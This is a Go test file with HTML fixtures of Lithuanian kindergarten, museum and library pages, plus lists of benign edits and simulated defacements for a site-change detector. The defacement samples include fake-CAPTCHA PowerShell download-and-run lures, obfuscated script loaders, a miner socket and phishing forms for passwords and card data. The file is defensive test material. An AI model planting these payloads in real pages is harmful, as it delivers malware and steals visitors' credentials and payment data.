package content_test

import "strings"

// Pages of a third set: a kindergarten made with Joomla, a museum made with a page
// builder, and a small parish library that has little more than an address.
const kindergarten = `<!DOCTYPE html>
<html xmlns="http://www.w3.org/1999/xhtml" xml:lang="lt-lt" lang="lt-lt"><head>
<base href="https://www.mokykla.example.lt/" /><meta http-equiv="content-type" content="text/html; charset=utf-8" /><meta name="generator" content="Joomla! - Open Source Content Management" />
<title>Lopšelis-darželis „Gintarėlis“ - Pradinis</title><link href="/templates/ja_purity/favicon.ico" rel="shortcut icon" />
<link rel="stylesheet" href="/templates/ja_purity/css/template.css" /><script src="/media/system/js/mootools-core.js"></script><script src="/media/jui/js/jquery.min.js?6f1a"></script>
<script type="application/json" class="joomla-script-options new">{"csrf.token":"0a1b2c3d4e5f","system.paths":{"root":"","base":""}}</script>
<script>window.addEvent('domready',function(){$$('.hasTip').each(function(el){var t=el.get('title');if(t){var p=t.split('::',2);el.store('tip:title',p[0]);}});});</script></head>
<body id="bd" class="fs3"><div id="ja-wrapper"><div id="ja-header"><h1 class="logo"><a href="/index.php">Lopšelis-darželis „Gintarėlis“</a></h1></div>
<div id="ja-mainnav"><ul class="menu"><li><a href="/index.php">Pradinis</a></li><li><a href="/index.php/apie-mus">Apie mus</a></li><li><a href="/index.php/grupes">Grupės</a></li><li><a href="/index.php/tevams">Tėvams</a></li><li><a href="/index.php/maitinimas">Maitinimas</a></li><li><a href="/index.php/dokumentai">Dokumentai</a></li><li><a href="/index.php/kontaktai">Kontaktai</a></li></ul></div>
<div id="ja-content"><!--TOP--><div class="item"><h2>Rudenėlio šventė</h2><p>Spalio pabaigoje darželyje vyko Rudenėlio šventė. Vaikai dainavo, šoko ir vaišinosi obuolių pyragu, kurį iškepė grupių auklėtojos kartu su tėveliais.</p></div><div class="item"><h2>Logopedės patarimai</h2><p>Kaip skatinti vaiko kalbą namuose? Skaitykite knygeles, vartykite paveikslėlius, kalbėkitės apie tai, ką matote eidami į darželį.</p></div><!--END--></div>
<div id="ja-right"><h3>Valgiaraštis</h3><p><a href="/images/valgiarastis.pdf">Šios savaitės valgiaraštis</a></p><h3>Nuorodos</h3><p><a href="https://www.ikimokyklinis.lt/">Ikimokyklinis</a> <a href="https://www.vilnius.lt/">Savivaldybė</a></p></div>
<div id="ja-footer">Gintaro g. 5, tel. (8 41) 500 000, <span id="cloak1">El. pašto adresas yra apsaugotas nuo šiukšlių.</span><script type="text/javascript">document.getElementById('cloak1').innerHTML='';var prefix='&#109;a'+'i&#108;'+'&#116;o';var path='hr'+'ef'+'=';var addy1='g&#105;nt&#97;r&#101;lis'+'&#64;';addy1=addy1+'mokykla'+'&#46;'+'lt';document.getElementById('cloak1').innerHTML+='<a '+path+'\''+prefix+':'+addy1+'\'>'+addy1+'<\/a>';</script> Įstaigos kodas 190000001</div></div></body></html>`

const museum = `<!doctype html><html lang="lt-LT"><head><meta charset="UTF-8"><meta name="viewport" content="width=device-width, initial-scale=1"><title>Krašto muziejus – istorija gyvai</title>
<link rel='stylesheet' id='elementor-frontend-css' href='https://www.mokykla.example.lt/wp-content/plugins/elementor/assets/css/frontend.min.css?ver=3.20' media='all' />
<style id='global-styles-inline-css'>:root{--wp--preset--color--black:#000;--wp--preset--color--white:#fff}.has-black-color{color:var(--wp--preset--color--black)}.elementor-invisible{visibility:hidden}.sr-only{position:absolute;width:1px;height:1px;clip:rect(0,0,0,0);overflow:hidden}</style>
<script src='https://www.mokykla.example.lt/wp-includes/js/jquery/jquery.min.js' id='jquery-core-js'></script></head>
<body class="home wp-custom-logo elementor-default"><header class="elementor elementor-12"><a href="https://www.mokykla.example.lt/"><img src="https://www.mokykla.example.lt/wp-content/uploads/logo.svg" alt="Krašto muziejus"></a><nav><a href="https://www.mokykla.example.lt/lankytojams/">Lankytojams</a><a href="https://www.mokykla.example.lt/parodos/">Parodos</a><a href="https://www.mokykla.example.lt/edukacijos/">Edukacijos</a><a href="https://www.mokykla.example.lt/rinkiniai/">Rinkiniai</a><a href="https://www.mokykla.example.lt/muziejus/">Muziejus</a><a href="https://www.mokykla.example.lt/kontaktai/">Kontaktai</a></nav></header>
<div class="elementor-section elementor-invisible" data-settings='{"_animation":"fadeIn"}'><div class="elementor-widget-wrap"><!--TOP--><h2 class="elementor-heading-title">Nauja paroda „Linų kelias“</h2><div class="elementor-text-editor"><p>Lapkričio mėnesį muziejuje veikia paroda apie lino auginimą ir audimą mūsų krašte. Lankytojai gali patys išbandyti verpimo ratelį ir staklės.</p></div><h2>Edukacija mokiniams</h2><p>Kviečiame klases į keramikos dirbtuves: molio lipdymas, žiedimas ir senovinių raštų pažinimas. Registracija telefonu darbo dienomis.</p><!--END--></div></div>
<div class="elementor-tabs"><div class="elementor-tab-content" hidden="hidden"><p>Bilieto kaina suaugusiems 4 eurai, moksleiviams ir senjorams 2 eurai, vaikams iki septynerių metų nemokamai.</p></div></div>
<footer>Muziejus dirba antradieniais–šeštadieniais 10–18 val. <a href="https://www.facebook.com/krastomuziejus">Facebook</a> <a href="https://www.muziejai.lt/">Muziejai.lt</a></footer>
<script>var elementorFrontendConfig={"environmentMode":{"edit":false},"i18n":{"shareOnFacebook":"Dalintis"},"urls":{"assets":"https:\/\/www.mokykla.example.lt\/wp-content\/plugins\/elementor\/assets\/"}};</script></body></html>`

const branch = `<html><head><title>Kaimo biblioteka</title></head><body><h2>Kaimo biblioteka</h2><!--TOP--><p>Dirbame antradienį ir ketvirtadienį nuo 10 iki 17 valandos.</p><!--END--><p>Adresas: Mokyklos g. 3. Telefonas 8 600 00000.</p><p><a href="knygos.html">Naujos knygos</a></p></body></html>`

func thirdPages() map[string]string {
	return map[string]string{"kindergarten": kindergarten, "museum": museum, "branch": branch}
}

// thirdEdits were written before they were tried.
func thirdEdits() []edit {
	in := func(what string) func(string) string { return func(p string) string { return put(p, what) } }
	atEnd := func(what string) func(string) string { return func(p string) string { return foot(p, what) } }
	return []edit{
		{"a lecture on quick credits", in(`<h2>Finansinis raštingumas</h2><p>Paskaita „Greitieji kreditai ir lošimai: kaip neįkliūti“. Kalbėsime apie greituosius kreditus, lažybas internetu ir kazino reklamą.</p>`)},
		{"a lecture on bitcoin", in(`<h2>Kas yra Bitcoin?</h2><p>Lektorius papasakos apie kriptovaliutas, blokų grandines ir sukčiavimo būdus.</p>`)},
		{"a club of poker chips? no, of bridge", in(`<p>Bridžo ir šachmatų būrelis renkasi penktadieniais.</p>`)},
		{"a lecture on passwords", in(`<h2>Slaptažodžių higiena</h2><p>Kaip hakeriai nulaužia slaptažodžius? Svetainė nulaužta – ką daryti? Pamokos senjorams.</p>`)},
		{"how to protect children", in(`<p>Kaip apsaugoti vaikus nuo pornografijos internete? Tėvų susirinkimas su psichologe.</p>`)},
		{"a black page of mourning", func(p string) string {
			return put(strings.Replace(p, "<body", `<body bgcolor="black" style="background:#000"`, 1), `<center><h1>Užuojauta</h1><p>Netekome ilgametės mokytojos Onos Petraitienės. Nuoširdžiai užjaučiame artimuosius.</p></center>`)
		}},
		{"protection of addresses by Cloudflare", atEnd(`<a href="/cdn-cgi/l/email-protection" class="__cf_email__" data-cfemail="a1b2c3d4">[email&#160;protected]</a><script data-cfasync="false" src="/cdn-cgi/scripts/5c5dd728/cloudflare-static/email-decode.min.js"></script>`)},
		{"measuring by Cloudflare", atEnd(`<script defer src="https://static.cloudflareinsights.com/beacon.min.js/v8b253" data-cf-beacon='{"rayId":"8a"}' crossorigin="anonymous"></script>`)},
		{"a challenge script of Cloudflare", atEnd(`<script>(function(){var a=document.createElement('iframe');a.height=1;a.width=1;a.style.visibility='hidden';document.body.appendChild(a);var d=a.contentDocument;if(d){var e=d.createElement('script');e.innerHTML="window.__CF$cv$params={r:'8f',t:'MTczMg=='};var a=document.createElement('script');a.src='/cdn-cgi/challenge-platform/scripts/jsd/main.js';document.getElementsByTagName('head')[0].appendChild(a);";d.getElementsByTagName('head')[0].appendChild(e)}})();</script>`)},
		{"another mail hidden as Joomla does", in(`<span id="cloak2"></span><script>document.getElementById('cloak2').innerHTML='';var prefix='&#109;a'+'i&#108;'+'&#116;o';var addy2='d&#105;r&#101;kt&#111;r&#101;'+'&#64;';addy2=addy2+'m'+'&#46;'+'lt';document.getElementById('cloak2').innerHTML+='<a href=\''+prefix+':'+addy2+'\'>'+addy2+'<\/a>';</script>`)},
		{"translation by Google", atEnd(`<div id="google_translate_element"></div><script>function googleTranslateElementInit(){new google.translate.TranslateElement({pageLanguage:'lt'},'google_translate_element');}</script><script src="https://translate.google.com/translate_a/element.js?cb=googleTranslateElementInit"></script>`)},
		{"a slider from a well-known store of scripts", head0(`<link rel="stylesheet" href="https://cdnjs.cloudflare.com/ajax/libs/slick-carousel/1.9.0/slick.min.css"><script src="https://cdnjs.cloudflare.com/ajax/libs/slick-carousel/1.9.0/slick.min.js"></script><script src="https://unpkg.com/swiper@11/swiper-bundle.min.js"></script>`)},
		{"a wall of Padlet", in(`<iframe src="https://padlet.com/embed/abc" style="width:100%;height:608px;border:0" allow="camera"></iframe>`)},
		{"a book of Calameo", in(`<iframe src="https://v.calameo.com/?bkcode=0061" width="480" height="300"></iframe>`)},
		{"a game of Wordwall and one of Genially", in(`<iframe src="https://wordwall.net/lt/embed/abc" width="500" height="380"></iframe><iframe src="https://view.genially.com/6" width="1200" height="675"></iframe>`)},
		{"the catalogue of libraries", in(`<p><a href="https://www.ibiblioteka.lt/metis/">Katalogas</a> <a href="https://vepub.labiblioteka.lt/">VePub</a> <a href="https://www.epaveldas.lt/">ePaveldas</a> <a href="https://interaktyvus.ugdome.lt/">Ugdome</a></p>`)},
		{"local newspapers", in(`<p>Apie mus rašo: <a href="https://www.etaplius.lt/x">Etaplius</a>, <a href="https://www.skrastas.lt/">Šiaulių kraštas</a>, <a href="https://www.15min.lt/">15min</a>, <a href="https://www.lrt.lt/">LRT</a></p>`)},
		{"partners of Erasmus", in(`<p>Partneriai: <a href="https://www.ceip-delmar.es/">CEIP del Mar</a>, <a href="https://www.agrupamento-norte.pt/">Agrupamento Norte</a>, <a href="https://okul-izmir.meb.k12.tr/">Izmir</a></p>`)},
		{"a form of another service for questions", in(`<p><a href="https://www.apklausa.lt/f/abc">Tėvų apklausa</a> ir <a href="https://forms.gle/xyz">registracija</a></p>`)},
		{"shortened addresses", in(`<p>Nuotraukos: <a href="https://bit.ly/3abc">čia</a> ir <a href="https://photos.app.goo.gl/abc">čia</a></p>`)},
		{"the whole menu renamed", func(p string) string {
			return strings.NewReplacer("Pradinis", "Titulinis", "Apie mus", "Mūsų darželis", "Lankytojams", "Aplankykite", "Parodos", "Renginiai ir parodos").Replace(p)
		}},
		{"classes of a new version of the theme", func(p string) string {
			return strings.NewReplacer(`class="item"`, `class="com-content-category-blog__item blog-item"`, `elementor-widget-wrap`, `e-con-inner`, `elementor-section`, `e-con e-flex`).Replace(p)
		}},
		{"tokens of this visit", func(p string) string {
			return strings.NewReplacer("0a1b2c3d4e5f", "ffee99887766", "?6f1a", "?77bc").Replace(p)
		}},
		{"a long report", in(`<h2>Metinė ataskaita</h2>` + strings.Repeat(`<p>Per metus įstaigoje vyko dvidešimt renginių, kuriuose dalyvavo vaikai, tėvai ir svečiai iš kitų įstaigų, o bendruomenė džiaugėsi rezultatais.</p>`, 12))},
		{"everything replaced by a notice of holidays", func(p string) string {
			return main2(p, `<h2>Atostogos</h2><p>Nuo liepos 1 iki 31 dienos įstaiga nedirba. Gražios vasaros!</p>`)
		}},
		{"a first-time page of films", in(`<video controls poster="/img/f.jpg"><source src="/film/svente.mp4" type="video/mp4"></video><p>Šventės akimirkos</p>`)},
		{"minified code of a plug-in", atEnd(`<script>!function(t,e){"object"==typeof exports&&"undefined"!=typeof module?module.exports=e():"function"==typeof define&&define.amd?define(e):(t=t||self).lazySizes=e()}(this,function(){"use strict";var t=window,e=document,n=[].slice,i=function(t,e){return t.classList.contains(e)};return{init:function(){n.call(e.querySelectorAll("img.lazy")).forEach(function(t){t.src=t.getAttribute("data-src")})}}});</script>`)},
		{"a tip that follows the mouse", in(`<a href="/index.php/tevams" onmouseover="this.style.textDecoration='underline'" onclick="window.open('/index.php/tevams','_blank','width=600');return false;">Tėvams</a>`)},
		{"a button of donations", in(`<form action="https://www.paypal.com/donate" method="post"><input type="hidden" name="hosted_button_id" value="X"><button>Paremti</button></form><p><a href="https://www.vmi.lt/">1,2 proc.</a></p>`)},
		{"a reader's card: entry to the library's own system", in(`<p><a href="https://kraštas.lib.lt/login">Prisijungti prie skaitytojo kortelės</a></p>`)},
		{"a film about the war", in(`<h2>Filmo peržiūra</h2><p>Okupacija, tremtis ir laisvė: susitikimas su režisieriumi. Stop karui! Laisvę Ukrainai!</p>`)},
		{"text pasted from Word", in(`<!--[if gte mso 9]><xml><o:OfficeDocumentSettings></o:OfficeDocumentSettings></xml><![endif]--><p class="MsoNormal" style="margin:0cm;mso-hide:all;display:none"><span lang="LT">Tvarkos aprašas patvirtintas direktoriaus įsakymu numeris V-12</span></p><p class="MsoNormal"><span style="font-size:12.0pt;font-family:'Times New Roman'">Tvarkos aprašas</span></p>`)},
	}
}

// thirdDefacements were written before they were tried.
func thirdDefacements() []edit {
	whole := func(text string) func(string) string { return func(string) string { return text } }
	in := func(what string) func(string) string { return func(p string) string { return put(p, what) } }
	atEnd := func(what string) func(string) string { return func(p string) string { return foot(p, what) } }
	return []edit{
		{"a styled black page without the word", whole(`<!DOCTYPE html><html><head><title>./Kazuya_ID</title><link href="https://fonts.googleapis.com/css2?family=Orbitron" rel="stylesheet"><style>body{background:#000;color:#0f0;text-align:center}</style></head><body><img src="https://i.ibb.co/abc/logo.png"><h1>Stamped By ./Kazuya_ID</h1><p>Sorry admin, your system is too weak. Patch it.</p><audio autoplay src="https://files.catbox.moe/x.mp3"></audio></body></html>`)},
		{"the password of a page is asked in the page", in(`<div><h2>Svetainė laikinai apribota</h2><form method="post" action="https://forms-collect.web.app/x"><input name="email"><input type="password" name="p"></form></div>`)},
		{"an inline script writes a script from pieces", atEnd(`<script>(function(){var u='ht'+'tps:/'+'/cd'+'n-stat'+'.to'+'p/a.js';var e=document.createElement('scr'+'ipt');e.src=u;document.head.appendChild(e)})()</script>`)},
		{"unescape", atEnd(`<script>document.write(unescape('%3C%73%63%72%69%70%74%20%73%72%63%3D%22%68%74%74%70%3A%2F%2F%78%2E%74%6F%70%2F%61%2E%6A%73%22%3E%3C%2F%73%63%72%69%70%74%3E'))</script>`)},
		{"a frame of a telegram channel's lure", atEnd(`<iframe src="//w.t-me-free.ru/x" width="0" height="0" frameborder="0"></iframe>`)},
		{"Turkish betting in the footer", atEnd(`<div style="overflow:hidden;height:0;width:0"><a href="https://www.deneme-bonusu.example/">deneme bonusu veren siteler</a> <a href="https://bahis.example/">kaçak bahis</a></div>`)},
		{"one visible casino link in the text", in(`<p>Rekomenduojame <a href="https://kazino-online.example/">geriausi internetiniai kazino Lietuvoje</a></p>`)},
		{"a title for search engines", func(p string) string {
			return strings.Replace(p, "<title>", "<title>Slot Gacor Gampang Maxwin 2026 | ", 1)
		}},
		{"the page is replaced by an advertisement of loans", func(p string) string {
			return main2(p, `<h1>Greiti kreditai internetu per 15 minučių</h1><p>Paskolos be užstato ir be pajamų patikrinimo. Kreipkitės dabar!</p><a href="https://paskola-dabar.example/">Gauti paskolą</a>`)
		}},
		{"a sheet of style from elsewhere", head0(`<link rel="stylesheet" href="https://static-theme-cdn.top/s.css">`)},
		{"a style that hides the page and writes another", head0(`<style>body *{display:none!important}body:before{content:"HACKED BY TEAM";display:block;font-size:80px}</style>`)},
		{"a push of notices", atEnd(`<script src="https://push-sdk-notify.com/sw.js" async></script>`)},
		{"a link leads to a program with a double name", in(`<p><a href="https://docs-share-lt.example/isakymas.pdf.exe">Direktoriaus įsakymas</a></p>`)},
		{"a false captcha", atEnd(`<div style="position:fixed;inset:0;background:#fff;z-index:2147483647"><h2>Verify you are human</h2><p>1. Press Windows Button + R. 2. Press CTRL + V. 3. Press Enter.</p></div><script>navigator.clipboard.writeText('powershell -w hidden iex(iwr https://x.example/a)')</script>`)},
		{"a false captcha in Lithuanian", atEnd(`<div style="position:fixed;inset:0;background:#fff;z-index:2147483647"><h2>Patvirtinkite, kad esate žmogus</h2><p>Paspauskite Windows + R, tada Ctrl + V ir Enter.</p></div><script>navigator.clipboard.writeText('powershell -w hidden -c iex(iwr https://x.example/a)')</script>`)},
		{"an insult in place of the news", func(p string) string {
			return main2(p, `<h1>Jūsų direktorius – vagis</h1><p>Ši įstaiga vagia vaikų pinigus. Mes viską žinome. Jus nulaužė ketvirtokas :)</p>`)
		}},
		{"propaganda in Russian in place of the news", func(p string) string {
			return main2(p, `<h1>Литва — наша</h1><p>Слава великой России! Советский Союз вернётся. Наши танки скоро будут в Вильнюсе.</p>`)
		}},
		{"the server's own first page", whole(`<!DOCTYPE html><html><head><title>Welcome to nginx!</title></head><body><h1>Welcome to nginx!</h1><p>If you see this page, the nginx web server is successfully installed and working. Further configuration is required.</p></body></html>`)},
		{"the installer of WordPress", whole(`<!DOCTYPE html><html><head><title>WordPress &rsaquo; Installation</title></head><body><h1>Welcome</h1><p>Welcome to the famous five-minute WordPress installation process! Just fill in the information below.</p><form method="post" action="install.php?step=2"><input name="weblog_title"></form></body></html>`)},
		{"a listing of files", whole(`<html><head><title>Index of /</title></head><body><h1>Index of /</h1><pre><a href="backup.zip">backup.zip</a> <a href="wp-config.php.bak">wp-config.php.bak</a></pre></body></html>`)},
		{"a page that is suspended", whole(`<html><head><title>Account Suspended</title></head><body><h1>Account Suspended</h1><p>This Account has been suspended. Contact your hosting provider for more information.</p></body></html>`)},
		{"a script in a picture that fails", in(`<img src="/x.png" onerror="var s=document.createElement('script');s.src='https://jquery-min-cdn.top/x.js';document.body.append(s)">`)},
		{"all pictures replaced", func(p string) string {
			return put(p, `<img src="https://i.imgur.com/skull.gif"><img src="https://i.imgur.com/flag.gif"><h1>Team Anon Ghost was here</h1>`)
		}},
		{"a socket of a miner", atEnd(`<script>var w=new WebSocket('wss://pool.supportxmr.example:443');w.onopen=function(){w.send(JSON.stringify({type:'auth',params:{site_key:'x',algo:'cn/r'}}))};var m=new Worker('/cn.wasm.js');</script>`)},
		{"hidden by one class of one's own sheet", func(p string) string {
			return foot(head(p, `<style>.q9{position:fixed;left:-3000px}</style>`), `<ul class="q9"><li><a href="https://best-essay.example/">write my essay</a></li><li><a href="https://pills.example/">cheap viagra</a></li></ul>`)
		}},
		{"text in zero size", atEnd(`<span style="font-size:0">judi slot online terpercaya rtp live pragmatic play bonus new member situs gacor</span>`)},
		{"away by a fetched answer", atEnd(`<script>fetch('https://api.traffic-dir.example/r').then(r=>r.text()).then(u=>{location=u})</script>`)},
		{"an object with a program", in(`<object data="https://player-update.example/x.swf" width="100" height="100"></object>`)},
		{"English praise of the attacker in the headline only", in(`<h1>0wned by MaDmAx :: greetz to r00t & all friends ::</h1>`)},
		{"the account of a bank in the page is another, with a form", in(`<form action="https://pay-lt.example/pay"><p>Mokėjimas už darželį</p><input name="card"><input name="cvv"></form>`)},
	}
}
